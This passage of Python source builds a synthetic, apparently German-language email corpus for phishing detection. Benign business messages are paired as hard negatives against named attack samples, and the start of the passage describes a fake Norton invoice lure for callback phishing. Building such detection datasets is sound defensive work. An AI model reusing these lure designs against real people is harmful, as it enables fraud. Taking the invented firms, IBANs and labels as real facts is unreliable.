               "möglich: %s (gebührenfrei aus dem deutschen Festnetz). Halten Sie Ihre Bestellnummer bereit." % phone],
        footer=["Bitte bewahren Sie diese Rechnung für Ihre Unterlagen auf."],
        producer="Microsoft: Print To PDF", creator="Microsoft Word", created="D:20261209151522+01'00'",
        accent=(0.98, 0.77, 0.0))
    b = U.gmail_boundary(m.rng)
    root = P("multipart/mixed", boundary=b, children=[
        P("multipart/alternative", boundary=U.gmail_boundary(m.rng), children=[
            P("text/plain", text=text, charset="UTF-8", cte="quoted-printable"),
            P("text/html", text=gmail_html(text), charset="UTF-8", cte="quoted-printable")]),
        att("application/pdf", inv, "Rechnung_DE-448172-9.pdf", fn_style="rfc2047b",
            order=["Content-Type", "Content-Disposition", "Content-Transfer-Encoding", "Content-ID"],
            )])
    root.children[1].extra = [("X-Attachment-Id", "f_%s" % U.alnum(m.rng, 9, "abcdefghijklmnopqrstuvwxyz0123456789"))]
    root.children[1].cid = "f_%s" % U.alnum(m.rng, 9, "abcdefghijklmnopqrstuvwxyz0123456789")
    m.what = ("Callback phishing (TOAD): fake Norton 360 renewal invoice 389,99 EUR from a Gmail account; the only "
              "'action' is a German phone number for 'cancellation' where the victim is talked into remote access "
              "and online banking.")
    m.why = ("No link or malware at all – the lure is the phone number; brand invoice from a free-mail address, "
             "urgency (24 h), recipient never ordered Norton; Gmail authentication passes.")
    return m.finish(mta.gmail, root)


# =================================================================== BUSINESS
@once
def b01():
    m = Msg("01-de-lieferant-bankwechsel-ordnungsgemaess.eml", "business", "de")
    m.frm = ("Petra Lang", "p.lang@lieferant-gmbh.de")
    m.to = [("Wöhrle, Jana", "jana.woehrle@example.com")]
    m.cc = [("Buchhaltung Lieferant GmbH", "rechnungen@lieferant-gmbh.de")]
    m.subject = "Änderung unserer Bankverbindung zum 01.11.2026"
    m.date = U.local("CET", 2026, 10, 12, 10, 14, 27)
    m.msgid = "<00c201dd5a2b$%s$%s@lieferant-gmbh.de>" % (U.hexs(m.rng, 8), U.hexs(m.rng, 8))
    m.hcharset = ("iso-8859-1", "Q")
    new, old = L["new_iban"], L["old_iban"]
    m.fact("ibans", new, old)
    m.fact("phones", "+49 89 9699 318-22", "+49 89 9699 318-0")
    text = ("Sehr geehrte Frau Wöhrle,\n\nwie bereits telefonisch mit Frau Kühnel besprochen, wechseln wir zum "
            "01.11.2026 unsere Hausbank. Im Anhang finden Sie das von unserer Geschäftsführung unterschriebene "
            "Schreiben mit der neuen Bankverbindung:\n\nVR Bank München Land eG\nIBAN %s\nBIC %s\n\n"
            "Bitte beachten Sie:\n- Unser bisheriges Konto bei der Kreissparkasse (IBAN %s) bleibt bis "
            "einschließlich 31.12.2026 bestehen; Zahlungen dorthin werden weiterhin zugeordnet.\n"
            "- Ab Rechnung Nr. 2026-10500 ist die neue Bankverbindung auf allen Rechnungen aufgedruckt.\n"
            "- Bitte bestätigen Sie die Änderung vor der ersten Zahlung telefonisch bei mir unter der Ihnen "
            "bekannten Nummer +49 89 9699 318-22 oder über unsere Zentrale +49 89 9699 318-0. Wir werden Sie niemals "
            "nur per E-Mail bitten, Zahlungen kurzfristig auf ein anderes Konto umzuleiten.\n\n"
            "Vielen Dank für Ihre Unterstützung!\n\n%s\n") % (
                W.ids.fmt_iban(new), L["new_bic"], W.ids.fmt_iban(old),
                sig_lieferant("Petra Lang", "Buchhaltung / Auftragsabwicklung", "22"))
    m.body_text = text
    html = outlook_html(text, "iso-8859-1", "DE")
    letter = docs.letter(
        m.file, "Mitteilung Bankverbindung", LIEF_SELLER, EXAMPLE_BUYER, "Ismaning, 09.10.2026",
        "Änderung unserer Bankverbindung zum 01.11.2026",
        ["Sehr geehrte Damen und Herren,",
         "zum 01.11.2026 verlegen wir unsere Hauptbankverbindung zur VR Bank München Land eG. Bitte leisten Sie "
         "Zahlungen für Rechnungen ab Nr. 2026-10500 auf das unten genannte Konto. Unser bisheriges Konto bei der "
         "Kreissparkasse München Starnberg Ebersberg (IBAN %s) wird zum 31.12.2026 aufgelöst; bis dahin "
         "eingehende Zahlungen werden selbstverständlich noch zugeordnet." % W.ids.fmt_iban(old),
         "Zur Ihrer Sicherheit: Bitte verifizieren Sie diese Änderung telefonisch unter der Ihnen bekannten "
         "Rufnummer +49 89 9699 318-0. Änderungen unserer Bankverbindung teilen wir ausschließlich schriftlich mit "
         "Unterschrift der Geschäftsführung mit."],
        "Mit freundlichen Grüßen", ["Wolfgang Lang", "Geschäftsführer"], footer=LIEF_FOOTER,
        producer="Microsoft® Word 2021", creator="Microsoft® Word 2021", created="D:20261009153312+02'00'",
        author="Petra Lang",
        boxes=[["Neue Bankverbindung ab 01.11.2026:", "Kontoinhaber: Lieferant GmbH", "Bank: VR Bank München Land eG",
                "IBAN %s" % W.ids.fmt_iban(new), "BIC: %s" % L["new_bic"]]])
    alt = P("multipart/alternative", boundary="----=_NextPart_001_00C3_01DD5A2B.%s" % U.hexs(m.rng, 8, True),
            children=[P("text/plain", text=text, charset="iso-8859-1", cte="quoted-printable"),
                      P("text/html", text=html, charset="iso-8859-1", cte="quoted-printable")])
    root = P("multipart/mixed", boundary="----=_NextPart_000_00C2_01DD5A2B.%s" % U.hexs(m.rng, 8, True),
             preamble="This is a multipart message in MIME format.", children=[
                 alt, att("application/pdf", letter, "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf",
                          fn_style="rfc2047q")])
    m.what = ("Supplier Lieferant GmbH announces its change of house bank (VR Bank München Land) with a signed "
              "letter; old account stays valid until 31.12., new details also on invoices from no. 2026-10500.")
    m.why = ("Real supplier mailbox via its own relay (SPF/DKIM/DMARC pass), Outlook 2021, change agreed by phone "
             "beforehand, transition period, explicit invitation to verify by phone on the known number, no urgency.")
    m.hard_negative_of = (["attack/02-de-lieferant-lookalike-bankverbindung.eml",
                           "attack/23-pl-partner-logistik-lookalike-rachunek.eml"],
                          "Same topic (supplier bank change). Genuine: real domain, announced with transition period, "
                          "asks for phone verification. Attack: look-alike domain, different neobank IBAN, excuse and "
                          "e-mail-only contact.")
    return m.finish(mta.postfix_relay, root, relay="mail.lieferant-gmbh.de", relay_ip="203.0.113.25",
                    client_helo="PC-BUCHH03", client_rdns="unknown", client_ip="192.168.10.54", dkim_sel="mail2026",
                    order=["From", "To", "Cc", "Subject", "Date", "Message-ID", "MIME-Version", "__MIME__",
                           "=X-Mailer: Microsoft Outlook 16.0", "=Thread-Index: " + mta.thread_index(m.rng),
                           "=Content-Language: de"])


def b02():
    m = Msg("02-de-lieferant-rechnung-girocode.eml", "business", "de")
    m.frm = ("Lieferant GmbH - Buchhaltung", "rechnungen@lieferant-gmbh.de")
    m.to = [("", "jana.woehrle@example.com")]
    m.subject = "Rechnung 2026-10517 - Lieferant GmbH"
    m.date = U.local("CET", 2026, 11, 3, 14, 5, 12)
    m.msgid = "<SAGE100.%s.%d@lieferant-gmbh.de>" % (U.hexs(m.rng, 16, True), U.ts(m.date))
    m.hcharset = ("iso-8859-15", "Q")
    iban = L["new_iban"]
    m.fact("ibans", iban)
    payload = m.qr("BCD\n002\n1\nSCT\n%s\nLieferant GmbH\n%s\nEUR4447.03\n\n\nRE 2026-10517 KD 10233\n" % (
        L["new_bic"], iban))
    text = ("Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2026-10517 vom 02.11.2026 "
            "über 4.447,03 EUR als PDF-Dokument.\n\nZahlungsziel: 17.11.2026 (14 Tage netto)\n\nBitte beachten Sie "
            "unsere neue Bankverbindung (VR Bank München Land eG, IBAN %s).\n\nMit freundlichen Grüßen\n\n"
            "Lieferant GmbH\nBuchhaltung\nGewerbering 14 · 85737 Ismaning\nTel. +49 89 9699 318-0\n\n"
            "Diese E-Mail wurde automatisch aus unserem Warenwirtschaftssystem erzeugt.\n") % W.ids.fmt_iban(iban)
    inv = docs.invoice(
        m.file, "Rechnung 2026-10517", LIEF_SELLER, EXAMPLE_BUYER,
        [("Rechnungsnummer", "2026-10517"), ("Rechnungsdatum", "02.11.2026"), ("Kundennummer", "10233"),
         ("Ihre Bestellung", "EK-2026-0871 (M. Eberl)"), ("Lieferdatum", "29.10.2026")],
        ["Pos.", "Bezeichnung", "Menge", "Einzelpreis", "Gesamt"],
        [["1", "Klimakiste KK-120, Sperrholz 15 mm, PU-Dämmung, Feuchtepuffer (Gemälde bis 120 × 100 cm)", "6 Stk",
          "385,00", "2.310,00"],
         ["2", "Klimakiste KK-180, Sperrholz 18 mm, PU-Dämmung, Feuchtepuffer, Stoßdämpfer", "2 Stk", "545,00",
          "1.090,00"],
         ["3", "Tyvek-Schutzvlies 1073D, Rolle", "40 m²", "4,80", "192,00"],
         ["4", "Anlieferung Ismaning – Lager Aschheim, Pauschale", "1", "145,00", "145,00"]],
        [("Nettobetrag", "3.737,00 EUR", False), ("USt. 19 %", "710,03 EUR", False),
         ("Rechnungsbetrag", "4.447,03 EUR", True)],
        notes=["Zahlbar bis 17.11.2026 ohne Abzug. Bitte geben Sie als Verwendungszweck die Rechnungsnummer an.",
               "Bankverbindung: VR Bank München Land eG · IBAN %s · BIC %s" % (W.ids.fmt_iban(iban), L["new_bic"]),
               "Es gelten unsere Allgemeinen Geschäftsbedingungen."],
        qr_payload=payload, qr_caption="GiroCode – Überweisung\nmit Banking-App scannen",
        footer=LIEF_FOOTER, producer="Sage 100 9.0 PDF", creator="Sage 100 Rechnungsdruck",
        created="D:20261102161844+01'00'", accent=(0.55, 0.12, 0.12))
    root = P("multipart/mixed", boundary="=_mixed_%s" % U.hexs(m.rng, 20), children=[
        P("text/plain", text=text, charset="iso-8859-15", cte="quoted-printable"),
        att("application/pdf", inv, "RE_2026-10517.pdf", fn_style="plain")])
    m.what = ("Supplier invoice 2026-10517 (climate crates, 4.447,03 EUR) from Lieferant GmbH's ERP, PDF with "
              "GiroCode (EPC QR) for the announced new VR Bank account.")
    m.why = ("Real supplier relay with DKIM/DMARC pass, matches purchase order EK-2026-0871, IBAN identical to the "
             "October announcement, plain ERP mail without links.")
    m.hard_negative_of = (["attack/05-de-registerfalle-eintragungsofferte-girocode.eml",
                           "attack/02-de-lieferant-lookalike-bankverbindung.eml"],
                          "Invoice with payment QR code. Genuine: known supplier, matching order number, announced "
                          "IBAN. Attack: unsolicited 'offer', foreign EMI account, auto-renewal small print.")
    return m.finish(mta.postfix_relay, root, relay="mail.lieferant-gmbh.de", relay_ip="203.0.113.25",
                    client_helo="srv-erp01.lieferant.local", client_rdns="unknown", client_ip="192.168.10.5",
                    dkim_sel="mail2026", auth_user="rechnungen@lieferant-gmbh.de",
                    order=["Date", "From", "To", "Subject", "Message-ID", "MIME-Version", "__MIME__",
                           "=X-Mailer: Sage 100 Mailversand 9.0"])


def b03():
    m = Msg("03-de-ceo-dringend-intern-freigabe.eml", "business", "de")
    ceo = W.person("konstantin.rehberg@example.com")
    m.frm = (W.short(ceo[1]), ceo[1])
    m.to = [("Kühnel, Sabine", "sabine.kuehnel@example.com")]
    m.cc = [("Kettl, Andreas", "andreas.kettl@example.com"), ("Wöhrle, Jana", "jana.woehrle@example.com")]
    m.subject = "Dringend: Garantiezahlung Hollerer heute noch anweisen"
    m.date = U.local("CET", 2026, 11, 10, 7, 58, 12)
    m.msgid = "<%s@EXCH01.corp.example.com>" % U.hexs(m.rng, 32)
    m.hcharset = ("windows-1252", "Q")
    iban = W.BRENNINGER["massekonto"]
    m.fact("ibans", iban)
    text = ("Liebe Sabine,\n\nDr. Brenninger hat gestern Abend die Verwertungsvereinbarung für Hollerer gegengezeichnet "
            "(siehe Mail von Frau Köhler an Andreas vom 09.11.). Die Garantiezahlung von 150.000,00 EUR muss laut "
            "§ 4 spätestens morgen auf dem Massekonto eingehen, sonst verschiebt sich die Besichtigung am 12.11. und "
            "damit der ganze Auktionsstart.\n\nBitte heute noch über den normalen Zahlungslauf mit Vier-Augen-Freigabe "
            "anweisen – Jana bereitet die Zahlung vor, du gibst frei. Die Bankverbindung steht im Vertrag (Anlage 3) "
            "und Andreas hat sie gestern telefonisch mit Frau Köhler abgeglichen:\n\nDr. Brenninger als "
            "Insolvenzverwalter über das Vermögen der Hollerer Präzisionsteile GmbH\nStadtsparkasse Augsburg\n"
            "IBAN %s\n\nIch bin bis 14 Uhr in der Gesellschafterversammlung, danach im Büro. Falls etwas unklar ist, "
            "ruf mich an oder sprich mit Andreas.\n\nDanke und viele Grüße\nKonstantin\n\n--\nDr. Konstantin Rehberg\n"
            "Geschäftsführer\nExample Group Auktionen GmbH\nPrannerstraße 9 · 80333 München\n"
            "Tel. +49 89 2180 460-10\n") % W.ids.fmt_iban(iban)
    html = outlook_html(text, "windows-1252", "DE")
    root = outlook_alt(m, text, html, "windows-1252")
    root.boundary = "_000_%s%s_" % (m.msgid.strip("<>").split("@")[0], "EXCH01corpexamplecom")
    m.what = ("Internal, genuinely urgent request from the CEO to the CFO: release today the 150.000 EUR guarantee "
              "payment to the insolvency estate account (Hollerer Präzisionsteile GmbH i.I.).")
    m.why = ("Sent from the CEO's Exchange mailbox via EXCH01/EXCH02 and mail-int01, cc to the department head and "
             "AP, refers to the signed contract and to a phone check of the IBAN, explicitly uses the normal "
             "four-eyes payment run; invites calls.")
    m.hard_negative_of = (["attack/01-de-ceo-fraud-vertraulich-whatsapp.eml",
                           "attack/21-it-avvocato-ceo-fraud-acquisizione.eml"],
                          "Urgent payment request from the CEO. Genuine: internal Exchange route, colleagues in cc, "
                          "contract reference, normal approval process. Attack: look-alike/external domain, secrecy, "
                          "channel switch, exclusion of colleagues.")
    return m.finish(mta.exchange_internal, root)


def b04():
    m = Msg("04-de-elster-neue-nachricht-postfach.eml", "business", "de")
    m.frm = ("ELSTER - Ihr Online-Finanzamt", "noreply@elster.de")
    m.to = [("", "sabine.kuehnel@example.com")]
    m.subject = "Neue Nachricht in Ihrem ELSTER-Postfach"
    m.date = U.local("CET", 2026, 10, 21, 6, 12, 33)
    m.msgid = "<%d.%d.%d@elster.de>" % (m.rng.randint(10 ** 6, 10 ** 7), m.rng.randint(10 ** 8, 10 ** 9),
                                        U.ts(m.date) * 1000)
    text = ("Sehr geehrte Nutzerin, sehr geehrter Nutzer,\n\nin Ihrem Postfach bei \"Mein ELSTER\" ist eine neue "
            "Nachricht für das Benutzerkonto \"Example Group Auktionen GmbH\" eingegangen.\n\nBitte melden Sie sich "
            "wie gewohnt über die Startseite https://www.elster.de an, um die Nachricht abzurufen. Aus "
            "Sicherheitsgründen enthält diese E-Mail keinen direkten Link zur Anmeldung.\n\nHinweis: Wir fordern Sie "
            "per E-Mail niemals dazu auf, Zugangsdaten, Zertifikatsdateien oder Passwörter einzugeben oder "
            "herunterzuladen.\n\nMit freundlichen Grüßen\nIhr ELSTER-Team\n\n"
            "Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.\n")
    root = P("text/plain", text=text, charset="UTF-8", cte="quoted-printable")
    m.envfrom = "noreply@elster.de"
    m.what = "Genuine ELSTER notification that a new message is waiting in the company's Mein ELSTER mailbox."
    m.why = ("Sent by the ELSTER mail infrastructure with DKIM/DMARC pass, plain text, no login link (only the "
             "start page), explicit warning that ELSTER never asks for credentials by e-mail.")
    m.hard_negative_of = (["attack/07-de-elster-zertifikat-phishing-ses.eml"],
                          "ELSTER notice. Genuine: elster.de, no action link, no threat. Attack: look-alike via SES, "
                          "certificate 'expiry', asks for .pfx and password.")
    return m.finish(mta.generic_org, root, mta="mailout02.elster.de", mta_ip="193.109.238.52",
                    dkim_sel="elster2024", hlist="From:To:Subject:Date:Message-ID:Content-Type",
                    inner=["Received: from elster-app-17.elster.intern (elster-app-17.elster.intern [10.139.4.17])\n"
                           "\tby mailout02.elster.de (Postfix) with ESMTP id %s;\n\t{DATE}" % U.postfix_qid(m.rng)],
                    order=["Date", "From", "To", "Message-ID", "Subject", "MIME-Version", "__MIME__",
                           "=X-Auto-Response-Suppress: All", "=Auto-Submitted: auto-generated"])


def b05():
    m = Msg("05-de-einlieferer-fotos-t-online.eml", "business", "de")
    m.frm = ("Gertraud Kammerlander", "g.kammerlander@t-online.de")
    m.to = [("", "charlotte.reiss@example.com")]
    m.subject = "Gemälde aus dem Nachlass meiner Mutter – Schätzung möglich?"
    m.date = U.local("CET", 2026, 10, 20, 19, 36, 2)
    m.msgid = "<%s@t-online.de>" % U.uuid4(m.rng, True)
    m.fact("phones", "+49 8821 739 204")
    text = ("Sehr geehrte Frau Dr. Reiß,\n\nich habe Sie letztes Jahr bei Ihrem Beratungstag in Garmisch "
            "kennengelernt und Sie sagten damals, ich dürfe mich gerne melden. Nach dem Tod meiner Mutter müssen wir "
            "nun das Haus in Partenkirchen räumen.\n\nEs geht vor allem um zwei Ölgemälde: ein Bauernporträt, "
            "rückseitig bezeichnet \"Defregger\" (ca. 60 x 45 cm ohne Rahmen), und eine kleine Gebirgslandschaft "
            "mit Monogramm unten rechts. Ich hänge Ihnen zwei Handyfotos an, bessere Aufnahmen kann ich gerne "
            "nachreichen.\n\nWäre es möglich, dass jemand von Ihnen die Bilder vor Ort ansieht? Ich bin unter "
            "+49 8821 739 204 am besten vormittags erreichbar.\n\nMit freundlichen Grüßen\nGertraud Kammerlander\n\n"
            "Von meinem iPhone gesendet")
    p1 = jpeg.encode(300, 400, jpeg.painting_photo(m.rng, 300, 400, "portrait"), quality=78,
                     exif=("Apple", "iPhone 12", "2026:10:20 18:55:12"))
    p2 = jpeg.encode(400, 300, jpeg.painting_photo(m.rng, 400, 300, "landscape"), quality=78,
                     exif=("Apple", "iPhone 12", "2026:10:20 18:57:40"))
    bnd = "Apple-Mail-%s" % U.uuid4(m.rng, True)
    t1, t2 = text.split("\n\nWäre es möglich")
    root = P("multipart/mixed", boundary=bnd, children=[
        P("text/plain", text=t1 + "\n\n", charset="utf-8", cte="quoted-printable"),
        att("image/jpeg", p1, "IMG_4471.jpeg", fn_style="plain", disposition="inline", name_param=True),
        att("image/jpeg", p2, "IMG_4473.jpeg", fn_style="plain", disposition="inline", name_param=True),
        P("text/plain", text="\n\nWäre es möglich" + t2, charset="utf-8", cte="quoted-printable")])
    for c in root.children[1:3]:
        c.params = ['x-unix-mode=0644']
    m.what = ("Private consignor (T-Online, iPhone Mail) offers two paintings from her late mother's house "
              "(one signed 'Defregger') and attaches two phone photos inline.")
    m.why = ("Personal context (met the specialist at a valuation day), plain request for a visit, real photos "
             "(JPEG with iPhone EXIF), no links, no archives, no pressure; T-Online authentication passes.")
    m.hard_negative_of = (["attack/04-de-einlieferer-passwort-zip-lnk.eml"],
                          "Unsolicited consignment offer with photos. Genuine: inline JPEGs, no password, no "
                          "archive. Attack: password-protected ZIP with .pdf.lnk.")
    m.client_ip = "198.51.100.34"
    return m.finish(mta.generic_org, root, mta="mailout11.t-online.de", mta_ip="194.25.134.85",
                    spf="pass",
                    inner=["Received: from fwd80.aul.t-online.de (fwd80.aul.t-online.de [10.223.144.106])\n"
                           "\tby mailout11.t-online.de (Postfix) with SMTP id %s;\n\t{DATE}" % U.postfix_qid(m.rng),
                           "Received: from smtpclient.apple ([198.51.100.34]) by fwd80.aul.t-online.de\n"
                           "\twith (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\n\tesmtp id 1t%s-%s; {DATEUTC}" % (
                               U.alnum(m.rng, 4), U.alnum(m.rng, 6)),
                           "X-TOI-EXPURGATEID: 150726::%d-%s/0/0 CLEAN NORMAL" % (U.ts(m.date), U.hexs(m.rng, 8, True)),
                           "X-TOI-MSGID: %s" % U.uuid4(m.rng)],
                    order=["__MIME__", "=Mime-Version: 1.0 (1.0)", "Subject", "From", "Date", "=Message-Id: " + m.msgid,
                           "To", "=X-Mailer: iPhone Mail (22A3354)"])


def b06():
    m = Msg("06-de-insolvenzverwalter-verwertungsvereinbarung.eml", "business", "de")
    m.frm = ("Sandra Köhler", "s.koehler@brenninger-insolvenz.de")
    m.to = [("Andreas Kettl", "andreas.kettl@example.com")]
    m.cc = [("Dr. Martin Brenninger", "m.brenninger@brenninger-insolvenz.de")]
    m.subject = "Hollerer Präzisionsteile GmbH i.I. – Verwertungsvereinbarung und Inventarliste"
    m.date = U.local("CET", 2026, 11, 9, 16, 20, 41)
    m.ol_server = U.outlook_server(m.rng, "DEU")
    m.msgid = U.outlook_msgid(m.rng, m.ol_server, "DEU")
    iban = W.BRENNINGER["massekonto"]
    m.fact("ibans", iban)
    m.fact("phones", "+49 821 455 902-17")
    text = ("Sehr geehrter Herr Kettl,\n\nim Auftrag von Herrn Dr. Brenninger übersende ich Ihnen anbei die "
            "gegengezeichnete Verwertungsvereinbarung (Stand v3, inkl. der besprochenen Änderungen in § 4 und § 7) "
            "sowie die aktualisierte Inventarliste mit Stand 06.11.2026 (212 Positionen).\n\nWie telefonisch "
            "besprochen, ist die Garantiezahlung gemäß § 4 bis zum 11.11.2026 auf das in Anlage 3 genannte "
            "Massekonto zu leisten. Die Besichtigung am 12.11.2026 (9:00–16:00 Uhr, Werk Landsberg) ist mit dem "
            "Betriebsrat abgestimmt; der Schlüssel liegt beim Pförtner.\n\nBitte senden Sie uns ein "
            "gegengezeichnetes Exemplar per Post zurück.\n\nMit freundlichen Grüßen\n\nSandra Köhler\n"
            "Sachbearbeiterin Insolvenzverwaltung\n\nDr. Brenninger & Kollegen Rechtsanwälte PartG mbB\n"
            "Maximilianstraße 38 · 86150 Augsburg\nTel. +49 821 455 902-17\n\nDiese E-Mail kann vertrauliche "
            "Informationen enthalten. Wenn Sie nicht der richtige Adressat sind, informieren Sie bitte den Absender "
            "und löschen Sie diese E-Mail.\n")
    html = outlook_html(text, "utf-8", "DE")
    alt = outlook_alt(m, text, html, "utf-8")
    cr = "2026-11-09T14:02:00Z"
    when = (2026, 11, 9, 15, 2, 0)
    docx = ooxml.docx([
        ("h", "Verwertungsvereinbarung"),
        "zwischen Rechtsanwalt Dr. Martin Brenninger als Insolvenzverwalter über das Vermögen der Hollerer "
        "Präzisionsteile GmbH, Landsberg am Lech (AG Augsburg, IN 412/26) – nachfolgend „Verwalter“ –",
        "und der Example Group Auktionen GmbH, Prannerstraße 9, 80333 München – nachfolgend „Auktionator“ –",
        ("b", "§ 1 Gegenstand"),
        "Der Auktionator verwertet das bewegliche Anlagevermögen gemäß Inventarliste (Anlage 1) im Wege einer "
        "Online-Auktion vom 16.11. bis 26.11.2026.",
        ("b", "§ 4 Garantie"),
        "Der Auktionator garantiert einen Mindesterlös von 600.000,00 EUR netto und leistet hierauf bis "
        "11.11.2026 eine Garantiezahlung von 150.000,00 EUR auf das Massekonto (Anlage 3).",
        ("b", "§ 7 Aufgeld und Kosten"),
        "Das Käuferaufgeld beträgt 18 % zzgl. USt.; Demontage und Abtransport gehen zu Lasten der Käufer.",
        ("b", "Anlage 3 – Massekonto"),
        ("table", [["Kontoinhaber", "Bank", "IBAN"],
                   ["Dr. Martin Brenninger als Insolvenzverwalter Hollerer Präzisionsteile GmbH",
                    "Stadtsparkasse Augsburg", W.ids.fmt_iban(iban)]]),
        "Augsburg / München, im November 2026"],
        "Verwertungsvereinbarung Hollerer", "Sandra Köhler", cr, when, "Dr. Brenninger & Kollegen")
    rows = [["Inv.-Nr.", "Bezeichnung", "Hersteller", "Baujahr", "Standort", "Buchwert EUR"]]
    machines = [("CNC-Drehzentrum", "DMG MORI", "2017", "Halle 1"), ("5-Achs-Bearbeitungszentrum", "Hermle", "2019", "Halle 1"),
                ("Flachschleifmaschine", "Blohm", "2012", "Halle 2"), ("Koordinatenmessmaschine", "Zeiss", "2016", "Messraum"),
                ("Gabelstapler 2,5 t", "Linde", "2020", "Versand"), ("Drahterodiermaschine", "GF Machining", "2015", "Halle 2"),
                ("Bandsäge", "Kasto", "2011", "Zuschnitt"), ("Kompressor 37 kW", "Kaeser", "2018", "Technikraum")]
    for i in range(1, 41):
        name, mk, yr, loc = machines[(i - 1) % len(machines)]
        rows.append(["HP-%04d" % (1000 + i), name, mk, yr, loc, float(m.rng.randint(4, 180) * 500)])
    xl = ooxml.xlsx([("Inventar", rows)], "Inventarliste Hollerer", "Sandra Köhler", cr, when,
                    "Dr. Brenninger & Kollegen")
    root = outlook_mixed(m, alt, [
        outlook_att("application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx,
                    "Verwertungsvereinbarung_Hollerer_v3_gegengezeichnet.docx", m.date),
        outlook_att("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xl,
                    "Inventarliste_Hollerer_Stand_2026-11-06.xlsx", m.date)])
    m.what = ("Insolvency administrator's office sends the countersigned realisation agreement (DOCX) and the "
              "machinery inventory (XLSX) for the Hollerer online auction; guarantee payment due 11.11.")
    m.why = ("Known counterparty via its Microsoft 365 tenant (DEU), matches the phone call and the CEO's internal "
             "mail, Office documents without macros, estate account in the contract annex, return of a signed copy "
             "by post.")
    return m.finish(mta.m365, root, region="DEU", lang="de", tenant_id=W.BRENNINGER["tenant"])


def b07():
    m = Msg("07-de-steuerberater-passwort-zip-sms.eml", "business", "de")
    m.frm = ("Tobias Rainer", "t.rainer@hollweck-partner.de")
    m.to = [("Sabine Kühnel", "sabine.kuehnel@example.com")]
    m.cc = [("Birgit Hollweck", "b.hollweck@hollweck-partner.de")]
    m.subject = "Jahresabschluss 2025 – Entwurf zur Durchsicht (verschlüsselt)"
    m.date = U.local("CET", 2026, 10, 16, 11, 47, 3)
    m.msgid = "<%s@HP-EX01.hollweck.local>" % U.hexs(m.rng, 32)
    m.hcharset = ("windows-1252", "Q")
    pw = "Kx7#mPrannerV25"
    fname = "Example_Group_JA_2025_Entwurf.zip"
    m.zip_passwords[fname] = pw
    m.fact("phones", "+49 89 3816 270-34")
    m.fact("other", "ZIP password (sent separately by SMS, not in the mail): %s" % pw)
    text = ("Sehr geehrte Frau Kühnel,\n\nanbei erhalten Sie den Entwurf des Jahresabschlusses 2025 der Example Group "
            "Auktionen GmbH (Bilanz, GuV, Anhang) sowie den Kontennachweis zur Durchsicht.\n\nDie Datei ist wie "
            "vereinbart mit einem Kennwort geschützt. Das Kennwort sende ich Ihnen in wenigen Minuten per SMS an "
            "Ihre bei uns hinterlegte Mobilnummer.\n\nFür Rückfragen stehe ich Ihnen gerne zur Verfügung; die "
            "Schlussbesprechung mit Frau Hollweck ist für den 29.10.2026 um 10:00 Uhr in unserer Kanzlei "
            "vorgesehen.\n\nMit freundlichen Grüßen\n\nTobias Rainer\nSteuerberater\n\nHollweck & Partner mbB "
            "Steuerberatungsgesellschaft\nLeopoldstraße 112 · 80802 München\nTel. +49 89 3816 270-34\n")
    html = outlook_html(text, "windows-1252", "DE")
    ja = docs.letter(m.file + "ja", "Jahresabschluss 2025 (Entwurf)", dict(
        name="Example Group Auktionen GmbH", lines=["Jahresabschluss zum 31. Dezember 2025 – ENTWURF",
                                                    "erstellt von Hollweck & Partner mbB Steuerberatungsgesellschaft"]),
        ["Bilanz · Gewinn- und Verlustrechnung · Anhang"], "München, 15.10.2026", "Entwurf – nur zur internen Abstimmung",
        ["Bilanzsumme: 48.912.304,17 EUR (Vj. 44.127.880,52 EUR)",
         "Umsatzerlöse (Aufgeld, Provisionen, Nebenleistungen): 31.448.902,64 EUR",
         "Jahresüberschuss: 2.184.337,09 EUR",
         "Der Anhang ist nach §§ 284 ff. HGB erstellt; Angaben zu Haftungsverhältnissen gemäß § 251 HGB sind "
         "noch mit der Geschäftsführung abzustimmen."],
        "", ["Hollweck & Partner mbB"], producer="DATEV Jahresabschluss 14.3", creator="DATEV",
        created="D:20261015173012+02'00'")
    kn = ooxml.xlsx([("Kontennachweis", [["Konto", "Bezeichnung", "31.12.2025", "31.12.2024"],
                                          [1200, "Bank UniCredit", 2418773.12, 1974310.08],
                                          [1360, "Geldtransit", 12500.0, 0.0],
                                          [1400, "Forderungen aus L+L (Käufer)", 3871204.55, 3522108.9],
                                          [1600, "Verbindlichkeiten L+L", -1210447.3, -988215.44],
                                          [1700, "Verbindlichkeiten ggü. Einlieferern", -6488120.0, -5904733.0]])],
                    "Kontennachweis 2025", "Tobias Rainer", "2026-10-15T15:20:00Z", (2026, 10, 15, 17, 20, 0))
    z = zipx.build_zip([("JA_2025_Entwurf_Example_Group.pdf", ja, (2026, 10, 15, 17, 31, 2)),
                        ("Kontennachweis_2025.xlsx", kn, (2026, 10, 15, 17, 20, 44))], rng=m.rng, password=pw)
    root = P("multipart/mixed", boundary="_004_%s_" % m.msgid.strip("<>").replace("@", "").replace(".", "")[:60],
             children=[P("multipart/alternative", boundary="_000_%s_" % m.msgid.strip("<>").replace("@", "").replace(".", "")[:60],
                         children=[P("text/plain", text=text, charset="windows-1252", cte="quoted-printable"),
                                   P("text/html", text=html, charset="windows-1252", cte="quoted-printable")]),
                       outlook_att("application/x-zip-compressed", z, fname, m.date)])
    m.what = ("Tax adviser sends the draft 2025 annual accounts as a password-protected ZIP; the password goes "
              "separately by SMS as agreed.")
    m.why = ("Known adviser via its own Exchange/Postfix gateway (SPF/DKIM pass), expected document, password "
             "deliberately NOT in the mail, meeting date consistent, contents are a PDF and an XLSX.")
    m.hard_negative_of = (["attack/04-de-einlieferer-passwort-zip-lnk.eml",
                           "attack/37-ru-fns-trebovanie-zip-parol.eml"],
                          "Password-protected ZIP. Genuine: password by second channel, expected document types. "
                          "Attack: password in the same mail, executable/shortcut inside.")
    return m.finish(mta.generic_org, root, mta="mail.hollweck-partner.de", mta_ip="198.51.100.40",
                    dkim_sel="dkim1", hlist="From:To:Cc:Subject:Date:Message-ID:Content-Type",
                    inner=["Received: from HP-EX01.hollweck.local (192.168.20.10) by HP-EX01.hollweck.local\n"
                           " (192.168.20.10) with Microsoft SMTP Server (version=TLS1_2,\n"
                           " cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1748.24; {DATEUTC}"],
